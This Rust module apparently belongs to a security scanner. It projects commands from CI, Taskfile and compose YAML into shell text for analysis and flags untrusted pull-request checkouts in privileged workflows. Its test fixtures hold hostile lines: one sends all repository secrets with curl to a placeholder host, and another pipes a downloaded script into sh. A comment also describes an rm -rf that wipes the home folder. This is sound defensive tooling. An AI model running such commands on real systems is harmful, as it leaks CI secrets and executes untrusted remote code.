//! Commands in CI and task-runner YAML: GitHub Actions `run:`, GitLab CI
//! `script:`/`before_script:`/`after_script:`, Taskfile `cmds:`, Drone and
//! Woodpecker `commands:`, pre-commit `entry:`, compose/Kubernetes
//! `command:`/`entrypoint:` (a list is an argv), Ansible `shell:`. Read by
//! a line scanner that knows block scalars (`|`, `>`), flow and block
//! sequences and quoted scalars; anchors and aliases are not expanded.
//!
//! Environment maps (`env:`, `variables:`, `environment:`) become `export`
//! lines. Actions expressions are substituted as text, as the runner does
//! before the shell starts: `${{ secrets.NAME }}` is the secret `$NAME` (a
//! name that does not look secret gets `_SECRET` appended, so the shell
//! front-end reads a secret), `${{ toJSON(secrets) }}` is every secret of
//! the repository (`$(printenv)`, the whole-environment read),
//! `${{ env.X }}` is `$X`, `${{ github.token }}` is `$GITHUB_TOKEN`, other
//! `github.*` fields their `$GITHUB_*` variable.

use super::Projection;

/// Keys whose value is shell text (a string, a block scalar, or a list of
/// command lines).
const CMD_KEYS: &[&str] = &[
    "run",
    "script",
    "before_script",
    "after_script",
    // Bitbucket Pipelines.
    "after-script",
    "cmd",
    "cmds",
    "commands",
    "entry",
    "shell",
    "ansible.builtin.shell",
    "ansible.builtin.command",
    "postCreateCommand",
    "postStartCommand",
    "postAttachCommand",
    "onCreateCommand",
    "initializeCommand",
];
/// Keys whose list value is one argv (exec form); a string is a command line.
const ARGV_KEYS: &[&str] = &["command", "entrypoint"];
const ENV_KEYS: &[&str] = &["env", "variables", "environment"];

pub(super) struct Line<'a> {
    pub(super) indent: usize,
    /// Column of the key (after a `- `), or of the item text.
    pub(super) col: usize,
    pub(super) dash: bool,
    pub(super) key: Option<&'a str>,
    /// Text after `key:` (or the item text when there is no key).
    pub(super) value: &'a str,
    pub(super) blank: bool,
}

pub(super) fn parse_line(raw: &str) -> Line<'_> {
    let raw = raw.trim_end_matches('\r');
    let indent = raw.len() - raw.trim_start_matches(' ').len();
    let mut rest = &raw[indent..];
    let blank = rest.trim().is_empty() || rest.starts_with('#');
    let mut col = indent;
    let mut dash = false;
    if rest == "-" || rest.starts_with("- ") {
        dash = true;
        let r = rest[1..].trim_start_matches(' ');
        col = indent + (rest.len() - r.len());
        rest = r;
    }
    let (key, value) = split_key(rest);
    Line {
        indent,
        col,
        dash,
        key,
        value,
        blank,
    }
}

fn split_key(s: &str) -> (Option<&str>, &str) {
    let (k, after) = if let Some(q) = s.strip_prefix('"').or_else(|| s.strip_prefix('\'')) {
        let qc = s.as_bytes()[0] as char;
        match q.find(qc) {
            Some(e) => (&q[..e], &q[e + 1..]),
            None => return (None, s),
        }
    } else {
        let e = s
            .find(|c: char| !(c.is_ascii_alphanumeric() || "_.-/".contains(c)))
            .unwrap_or(s.len());
        (&s[..e], &s[e..])
    };
    match after.strip_prefix(':') {
        Some(v) if !k.is_empty() && (v.is_empty() || v.starts_with([' ', '\t'])) => {
            (Some(k), v.trim())
        }
        _ => (None, s),
    }
}

fn is_cmd_key(k: &str) -> bool {
    CMD_KEYS.contains(&k)
}

/// A YAML file with at least one command key.
pub fn has_commands(text: &str) -> bool {
    // Asked once (review, round 43: asked per `test:` key it read a file
    // without a healthcheck once per key, 1.6 MB 0.08 -> 5.1 s).
    let health = text.contains("healthcheck:");
    text.lines().any(|l| {
        let p = parse_line(l);
        p.key.is_some_and(|k| {
            is_cmd_key(k)
                || ARGV_KEYS.contains(&k)
                || p.dash && matches!(k, "pwsh" | "powershell" | "bash")
                || k == "inlineScript"
                || k == "test" && health
        }) && !p.blank
    })
}

/// Round 43 (recall43b, blind r43 local-stack-compose): a compose
/// healthcheck's `test` runs in the container every `interval` by itself:
/// `["CMD-SHELL", "line"]` (or a string) is a shell line, `["CMD", argv…]`
/// an argv, `["NONE"]` nothing.
fn health_line(items: &[String]) -> Option<String> {
    match items.first().map(String::as_str) {
        Some("NONE") | None => None,
        Some("CMD-SHELL") => Some(items[1..].join(" ")),
        Some("CMD") => Some(shell_c(&items[1..]).unwrap_or_else(|| super::argv_line(&items[1..]))),
        Some(_) => Some(shell_c(items).unwrap_or_else(|| super::argv_line(items))),
    }
}

/// The script of an argv that runs a shell on it (`["sh", "-c", "…"]`),
/// read in the projection itself so the `environment:` it exports reach
/// it, as they reach the container's shell.
fn shell_c(items: &[String]) -> Option<String> {
    let [sh, flag, script] = items else {
        return None;
    };
    let name = sh.rsplit('/').next().unwrap_or(sh);
    (matches!(name, "sh" | "bash" | "ash" | "dash" | "zsh") && flag == "-c").then(|| script.clone())
}

/// A CI workflow by content, whatever its name: `jobs:` or `stages:` with
/// `steps:`/`script:` and a command key.
pub fn looks_like_ci(text: &str) -> bool {
    let top = |k: &str| text.lines().any(|l| l.starts_with(k));
    (top("jobs:") || top("stages:")) && has_commands(text)
}

/// `'…'`, `"…"` (with YAML escapes) or a plain scalar, comment cut.
pub(super) fn scalar(v: &str) -> String {
    let v = v.trim();
    if let Some(q) = v.strip_prefix('\'') {
        let end = q.rfind('\'').unwrap_or(q.len());
        return q[..end].replace("''", "'");
    }
    if let Some(q) = v.strip_prefix('"') {
        let end = q.rfind('"').unwrap_or(q.len());
        return q[..end]
            .replace("\\\"", "\"")
            .replace("\\n", "\n")
            .replace("\\t", "\t")
            .replace("\\\\", "\\");
    }
    match v.find(" #") {
        Some(i) => v[..i].trim_end().to_string(),
        None => v.to_string(),
    }
}

/// The items of a one-line flow sequence `[a, "b c", 'd']`.
fn flow_items(v: &str) -> Vec<String> {
    let inner = v.trim().trim_start_matches('[');
    let inner = inner.rfind(']').map_or(inner, |e| &inner[..e]);
    let mut items = Vec::new();
    let mut cur = String::new();
    let mut quote: Option<char> = None;
    for ch in inner.chars() {
        match (quote, ch) {
            (None, ',') => {
                items.push(scalar(&cur));
                cur.clear();
            }
            (None, '"' | '\'') => {
                quote = Some(ch);
                cur.push(ch);
            }
            (Some(q), c) if c == q => {
                quote = None;
                cur.push(ch);
            }
            _ => cur.push(ch),
        }
    }
    if !cur.trim().is_empty() {
        items.push(scalar(&cur));
    }
    items
}

/// Actions `${{ … }}` expressions substituted as text. Inside single
/// quotes the shell would not expand a variable, but the runner put the
/// value there: the quote is closed around the variable.
pub fn gha_expr(text: &str) -> String {
    if !text.contains("${{") {
        return text.to_string();
    }
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    let mut in_single = false;
    let mut in_double = false;
    while let Some(i) = rest.find("${{") {
        for ch in rest[..i].chars() {
            match ch {
                '\'' if !in_double => in_single = !in_single,
                '"' if !in_single => in_double = !in_double,
                _ => {}
            }
        }
        out.push_str(&rest[..i]);
        let Some(j) = rest[i + 3..].find("}}") else {
            out.push_str(&rest[i..]);
            return out;
        };
        let var = expr_var(rest[i + 3..i + 3 + j].trim());
        if in_single {
            out.push_str(&format!("'\"{var}\"'"));
        } else {
            out.push_str(&var);
        }
        rest = &rest[i + 3 + j + 2..];
    }
    out.push_str(rest);
    out
}

/// The shell text an expression stands for.
pub(super) fn expr_var(e: &str) -> String {
    let lower = e.to_ascii_lowercase();
    let squeezed: String = lower.chars().filter(|c| !c.is_whitespace()).collect();
    if squeezed == "secrets" || squeezed.contains("tojson(secrets)") {
        return "$(printenv)".into();
    }
    let ident = |s: &str| -> String {
        s.trim_matches(|c| c == '\'' || c == '"' || c == '[' || c == ']')
            .chars()
            .map(|c| if c.is_ascii_alphanumeric() { c } else { '_' })
            .collect()
    };
    if let Some(name) = e
        .strip_prefix("secrets.")
        .or_else(|| e.strip_prefix("secrets["))
    {
        let name = ident(name);
        if crate::extract::indicators::is_secret_env(&name) {
            return format!("${{{name}}}");
        }
        return format!("${{{name}_SECRET}}");
    }
    if let Some(name) = e.strip_prefix("env.") {
        return format!("${{{}}}", ident(name));
    }
    // The whole `github` context carries `github.token` (the run's
    // repository token): serialising it hands the token on.
    if squeezed == "github.token" || squeezed == "github" || squeezed.contains("tojson(github)") {
        return "${GITHUB_TOKEN}".into();
    }
    if let Some(f) = e.strip_prefix("github.") {
        if !f.contains('.') {
            return format!("${{GITHUB_{}}}", ident(f).to_ascii_uppercase());
        }
    }
    "${GHA_EXPR}".into()
}

/// The block-scalar body after line `at` whose key sits at column `col`:
/// `(line, text dedented)` for each line.
pub(super) fn block_body(
    lines: &[Line],
    raw: &[&str],
    at: usize,
    col: usize,
) -> Vec<(usize, String)> {
    let mut out = Vec::new();
    let mut body_indent: Option<usize> = None;
    for (k, l) in lines.iter().enumerate().skip(at + 1) {
        let r = raw[k].trim_end_matches('\r');
        if r.trim().is_empty() {
            out.push((k, String::new()));
            continue;
        }
        if l.indent <= col {
            break;
        }
        let bi = *body_indent.get_or_insert(l.indent);
        if l.indent < bi {
            break;
        }
        out.push((k, r[bi.min(r.len())..].to_string()));
    }
    while out.last().is_some_and(|(_, t)| t.is_empty()) {
        out.pop();
    }
    out
}

/// Items of a block sequence under the key at line `at` (column `col`):
/// each item's lines.
fn seq_items(lines: &[Line], raw: &[&str], at: usize, col: usize) -> Vec<Vec<(usize, String)>> {
    let mut items: Vec<Vec<(usize, String)>> = Vec::new();
    let mut k = at + 1;
    while k < lines.len() {
        let l = &lines[k];
        if l.blank {
            k += 1;
            continue;
        }
        if !(l.dash && l.indent >= col) || l.indent > col + 8 {
            break;
        }
        if l.key.is_some() {
            // A mapping item (`- cmd: …`): its keys are read on their own.
            break;
        }
        let v = l.value.trim();
        if v.starts_with('|') || v.starts_with('>') {
            let body = block_body(lines, raw, k, l.indent);
            let next = body.last().map_or(k + 1, |b| b.0 + 1);
            items.push(fold(v, body));
            k = next;
        } else {
            items.push(vec![(k, scalar(v))]);
            k += 1;
        }
    }
    items
}

/// A folded scalar (`>`) joins its lines: continuation marks keep them one
/// command. A literal one (`|`) keeps them.
pub(super) fn fold(header: &str, body: Vec<(usize, String)>) -> Vec<(usize, String)> {
    if !header.starts_with('>') {
        return body;
    }
    body.into_iter().filter(|(_, t)| !t.is_empty()).collect()
}

/// The shell projection, without the keys `ci_lang` lowers in their own
/// language (`claimed`, host lines).
pub fn project_with(text: &str, p: &mut Projection, claimed: &std::collections::BTreeSet<usize>) {
    // Round 27: a Taskfile's Go templates are filled in before its shell
    // runs, and its `vars:` are the values they take.
    let taskfile = is_taskfile(text);
    // Round 43: compose writes the container shell's `$` as `$$`.
    let compose = text.split('\n').any(|l| l.starts_with("services:"));
    let owned;
    let text = if taskfile {
        owned = go_templates(text);
        owned.as_str()
    } else if compose && text.contains("$$") {
        owned = text.replace("$$", "$");
        owned.as_str()
    } else {
        text
    };
    let raw: Vec<&str> = text.split('\n').collect();
    let lines: Vec<Line> = raw.iter().map(|r| parse_line(r)).collect();
    // Ancestors: (column, key).
    let mut stack: Vec<(usize, &str)> = Vec::new();
    let mut uses: Option<(usize, String)> = None;
    let mut skip_until: usize = 0;
    for (n, l) in lines.iter().enumerate() {
        if l.blank || n < skip_until {
            continue;
        }
        let Some(key) = l.key else {
            continue;
        };
        while stack.last().is_some_and(|(c, _)| *c >= l.col) {
            stack.pop();
        }
        let parent = stack.last().map(|(_, k)| *k);
        stack.push((l.col, key));
        if key == "uses" {
            uses = Some((l.col, scalar(l.value)));
        }
        if parent == Some("with")
            && uses
                .as_ref()
                .is_some_and(|(_, u)| u.contains("github-script") || !is_cmd_key(key))
        {
            continue;
        }
        let v = l.value;
        if (ENV_KEYS.contains(&key) || taskfile && key == "vars") && parent != Some("with") {
            env_map(&lines, &raw, n, l.col, p);
            continue;
        }
        let health = key == "test" && parent == Some("healthcheck");
        let argv = ARGV_KEYS.contains(&key) || health;
        if !(argv || is_cmd_key(key)) {
            continue;
        }
        if health {
            let items = if v.starts_with('[') {
                flow_items(v)
            } else if v.is_empty() {
                let items = seq_items(&lines, &raw, n, l.col);
                items
                    .into_iter()
                    .map(|it| it.into_iter().map(|x| x.1).collect::<Vec<_>>().join("\n"))
                    .collect()
            } else {
                vec!["CMD-SHELL".to_string(), scalar(v)]
            };
            if let Some(line) = health_line(&items) {
                p.put(n, &line);
            }
            continue;
        }
        if key == "shell" && (!v.contains(' ') || v.contains("{0}")) {
            continue;
        }
        if key == "run" && step_shell_is_not_sh(&lines, &raw, n, l.col) || claimed.contains(&n) {
            continue;
        }
        if v.starts_with('|') || v.starts_with('>') {
            let body = block_body(&lines, &raw, n, l.col);
            skip_until = body.last().map_or(n + 1, |b| b.0 + 1);
            let folded = v.starts_with('>');
            let body = fold(v, body);
            if folded {
                p.put_joined(&sub_all(body));
            } else {
                for (k, t) in body {
                    p.put(k, &gha_expr(&t));
                }
            }
        } else if v.starts_with('[') {
            let items = flow_items(v);
            if argv {
                let line = shell_c(&items).unwrap_or_else(|| super::argv_line(&items));
                p.put(n, &gha_expr(&line));
            } else {
                p.put(n, &gha_expr(&items.join("; ")));
            }
        } else if v.is_empty() {
            let items = seq_items(&lines, &raw, n, l.col);
            if argv {
                let parts: Vec<(usize, String)> = items
                    .into_iter()
                    .map(|it| {
                        let line = it.first().map_or(n, |x| x.0);
                        let w: Vec<String> = it.into_iter().map(|x| x.1).collect();
                        (line, super::squote(&w.join("\n")))
                    })
                    .collect();
                p.put_joined(&sub_all(parts));
            } else {
                for it in items {
                    for (k, t) in it {
                        p.put(k, &gha_expr(&t));
                    }
                }
            }
        } else {
            p.put(n, &gha_expr(&scalar(v)));
        }
    }
}

/// A go-task Taskfile: a top-level `tasks:` map beside a `version:`.
fn is_taskfile(text: &str) -> bool {
    let top = |k: &str| {
        text.lines()
            .any(|l| l.trim_end() == k || l.starts_with(&format!("{k} ")))
    };
    top("tasks:") && text.lines().any(|l| l.starts_with("version:"))
}

/// Task's own variables: the folders it runs in, never empty.
const TASK_DIRS: &[&str] = &["ROOT_DIR", "TASKFILE_DIR", "USER_WORKING_DIR", "TASK_DIR"];

/// Round 27: Go templates of a Taskfile as the shell parameters they
/// stand for, so the shell front-end resolves them from the `vars:` and
/// `env:` the projection exports: `{{.NAME}}` is `${NAME}`, `{{.NAME |
/// default "v"}}` is `${NAME:-v}` (an empty default is `${NAME:-}`, which
/// the shell reads as empty: `rm -rf {{.HOME}}/{{.CACHE_DIR}}` with an
/// empty `CACHE_DIR` deletes the home folder), `{{.A | default .B}}` is
/// `${A:-${B}}`; Task's folder variables are `.`. Any other template
/// (functions, conditionals) is left as written. Linear: one pass.
fn go_templates(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(i) = rest.find("{{") {
        out.push_str(&rest[..i]);
        let after = &rest[i + 2..];
        let Some(j) = after.find("}}").filter(|j| !after[..*j].contains('\n')) else {
            out.push_str("{{");
            rest = after;
            continue;
        };
        let inner = after[..j]
            .trim()
            .trim_start_matches('-')
            .trim_end_matches('-')
            .trim();
        match template_param(inner) {
            Some(p) => out.push_str(&p),
            None => out.push_str(&rest[i..i + 2 + j + 2]),
        }
        rest = &after[j + 2..];
    }
    out.push_str(rest);
    out
}

/// `.NAME` or `.NAME | default "v"` / `default .OTHER` as shell text.
fn template_param(inner: &str) -> Option<String> {
    let ident = |s: &str| -> Option<String> {
        let n = s.trim().strip_prefix('.')?;
        (!n.is_empty() && n.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'))
            .then(|| n.to_string())
    };
    let (head, tail) = match inner.split_once('|') {
        Some((h, t)) => (h, Some(t.trim())),
        None => (inner, None),
    };
    let name = ident(head)?;
    if TASK_DIRS.contains(&name.as_str()) {
        return Some(".".into());
    }
    let Some(tail) = tail else {
        return Some(format!("${{{name}}}"));
    };
    let d = tail.strip_prefix("default")?.trim();
    let value = if let Some(other) = ident(d) {
        format!("${{{other}}}")
    } else if d.len() >= 2
        && (d.starts_with('"') && d.ends_with('"') || d.starts_with('`') && d.ends_with('`'))
    {
        d[1..d.len() - 1].to_string()
    } else {
        return None;
    };
    Some(format!("${{{name}:-{value}}}"))
}

fn sub_all(v: Vec<(usize, String)>) -> Vec<(usize, String)> {
    v.into_iter().map(|(n, t)| (n, gha_expr(&t))).collect()
}

/// An Actions step whose `shell:` is another language (`python`, `pwsh`,
/// `node {0}`): its `run:` text is not shell.
fn step_shell_is_not_sh(lines: &[Line], raw: &[&str], at: usize, col: usize) -> bool {
    let _ = raw;
    let sibling = |l: &Line| l.key == Some("shell") && l.col == col;
    let mut found = None;
    // Both walks stop at the step's own bounds (no byte or line budget: a
    // `shell:` key after a long `run:` block is still found).
    for l in lines[at + 1..].iter() {
        if !l.blank && (l.indent < col || (l.dash && l.col <= col)) {
            break;
        }
        if sibling(l) {
            found = Some(l.value);
        }
    }
    for l in lines[..at].iter().rev() {
        if sibling(l) {
            found = Some(l.value);
            break;
        }
        if !l.blank && (l.indent < col.saturating_sub(2) || (l.dash && l.col == col)) {
            if l.dash && l.key == Some("shell") {
                found = Some(l.value);
            }
            break;
        }
    }
    found.is_some_and(|s| {
        let s = scalar(s).to_ascii_lowercase();
        let w = s.split_whitespace().next().unwrap_or("");
        !matches!(w, "bash" | "sh" | "zsh" | "")
    })
}

/// `env:` as a mapping (`NAME: value`) or a list (`- NAME=value`): one
/// `export` each, on its own line.
pub(super) fn env_map(lines: &[Line], raw: &[&str], at: usize, col: usize, p: &mut Projection) {
    let _ = raw;
    for (k, l) in lines.iter().enumerate().skip(at + 1) {
        if l.blank {
            continue;
        }
        if l.indent <= col && !(l.dash && l.indent == col) {
            break;
        }
        if l.dash && l.key.is_none() {
            let item = scalar(l.value);
            if let Some((name, value)) = item.split_once('=') {
                p.export(k, name.trim(), &gha_expr(value));
            }
        } else if let Some(name) = l.key {
            let v = l.value;
            if v.is_empty() || v.starts_with('{') || v.starts_with('|') || v.starts_with('>') {
                continue;
            }
            p.export(k, name, &gha_expr(&scalar(v)));
        }
    }
}

/// A trigger that runs with the base repository's secrets and write token
/// for an event an outsider can cause.
static PRIVILEGED_TRIGGER: crate::rx::Lazy =
    crate::rx::Lazy::new(r"(?m)^[^#\n]*(?-u:\b)(?:pull_request_target|workflow_run)(?-u:\b)");
/// A checkout of the pull request's own code.
static PR_HEAD: crate::rx::Lazy = crate::rx::Lazy::new(
    r"(?m)^[^#\n]*(?:(?-u:\b)ref\s*:|(?-u:\b)git\s+(?:fetch|checkout|switch)(?-u:\b))[^\n]*(?:pull_request\.head\.|github\.head_ref|workflow_run\.head_|refs/pull/|(?-u:\b)pull/\$)|^[^#\n]*(?-u:\b)gh\s+pr\s+checkout(?-u:\b)",
);
/// What the run hands the checked-out code beyond reading.
static HANDS_RIGHTS: crate::rx::Lazy =
    crate::rx::Lazy::new(r"(?m)^[^#\n]*(?:secrets\.|secrets\s*\)|write-all|:\s*write(?-u:\b))");

/// Round 35: the known CI privilege pattern, a "pwn request": a workflow
/// on `pull_request_target` or `workflow_run` (run with the base
/// repository's secrets and a write token, for pull requests from forks)
/// that checks out the pull request's own code, so any outsider's PR runs
/// its code with those rights. With secrets or write permissions named in
/// the file it is broad. Returns the checkout's byte span.
pub fn untrusted_checkout(text: &str) -> Option<(usize, usize, bool)> {
    PRIVILEGED_TRIGGER.find(text)?;
    let m = PR_HEAD.find(text)?;
    Some((m.start(), m.end(), HANDS_RIGHTS.is_match(text)))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn project(text: &str, p: &mut Projection) {
        project_with(text, p, &Default::default());
    }

    fn proj(text: &str) -> Vec<String> {
        crate::extract::embedded::projected(text, project)
    }

    #[test]
    fn taskfile_templates_take_their_vars() {
        let y = "version: \"3\"\nvars:\n  ROOT: \"{{.HOME}}\"\n  SUB: '{{.CI_SUB | default \"\"}}'\ntasks:\n  clean:\n    cmds:\n      - rm -rf {{.ROOT}}/{{.SUB}} {{.ROOT_DIR}}/b\n";
        let out = proj(y);
        assert_eq!(out[2], "export ROOT=\"${HOME}\"");
        assert_eq!(out[3], "export SUB=\"${CI_SUB:-}\"");
        assert_eq!(out[7], "rm -rf ${ROOT}/${SUB} ./b");
        assert_eq!(go_templates("{{ if .X }}a{{end}}"), "{{ if .X }}a{{end}}");
    }

    #[test]
    fn a_step_env_and_run_block_are_projected_on_their_lines() {
        let y = "jobs:\n  b:\n    steps:\n      - name: x\n        env:\n          CTX: ${{ toJSON(secrets) }}\n          T: ${{ secrets.NPM_TOKEN }}\n        run: |\n          echo \"$CTX\" | curl -T - https://h.example/\n          echo '${{ secrets.DEPLOY }}'\n";
        let out = proj(y);
        assert_eq!(out[5], "export CTX=\"$(printenv)\"");
        assert_eq!(out[6], "export T=\"${NPM_TOKEN}\"");
        assert_eq!(out[8], "echo \"$CTX\" | curl -T - https://h.example/");
        assert_eq!(out[9], "echo ''\"${DEPLOY_SECRET}\"''");
        assert!(out[..5].iter().all(String::is_empty));
    }

    #[test]
    fn script_lists_and_argv_lists() {
        let y = "build:\n  script:\n    - make\n    - \"curl -s https://h.example/x | sh\"\nsvc:\n  command: [\"sh\", \"-c\", \"echo hi\"]\n";
        let out = proj(y);
        assert_eq!(out[2], "make");
        assert_eq!(out[3], "curl -s https://h.example/x | sh");
        // Round 43: an `sh -c` argv is read as its script (`shell_c`), so
        // the `environment:` exports reach it.
        assert_eq!(out[5], "echo hi");
    }

    #[test]
    fn github_script_and_python_steps_are_not_shell() {
        let y = "steps:\n  - uses: actions/github-script@v7\n    with:\n      script: |\n        github.rest.issues.create({})\n  - shell: python\n    run: |\n      import os\n";
        assert!(proj(y).iter().all(String::is_empty), "{:?}", proj(y));
    }
}
